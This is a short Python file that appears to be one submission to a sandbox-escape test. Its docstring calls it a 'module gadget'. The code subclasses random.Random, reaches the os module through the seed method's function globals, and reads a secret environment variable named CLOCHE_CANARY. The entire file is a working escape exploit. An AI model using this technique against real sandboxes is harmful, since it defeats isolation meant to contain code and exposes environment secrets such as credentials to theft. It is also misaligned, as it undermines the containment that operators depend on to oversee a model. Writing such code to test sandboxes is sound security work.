"""Class: module gadget. Source: own find. Escape: random's module globals through a subclass."""

import random


class R(random.Random):
    def grab(self):
        return super().seed.__func__.__globals__


def attack(model, tokenizer, address):
    return R().grab()["_os"].environ["CLOCHE_CANARY"]
